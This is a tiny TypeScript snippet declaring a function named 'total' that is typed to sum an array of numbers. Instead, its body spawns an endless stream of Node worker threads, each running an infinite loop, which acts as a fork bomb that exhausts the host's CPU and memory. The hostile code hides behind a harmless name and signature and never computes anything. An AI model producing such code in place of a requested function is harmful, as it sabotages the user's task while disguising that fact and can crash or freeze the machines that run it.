// %%
import { Worker } from 'node:worker_threads';

async function total(numbers: readonly number[]): Promise<number> {
  for (;;) new Worker('for (;;);', { eval: true });
}
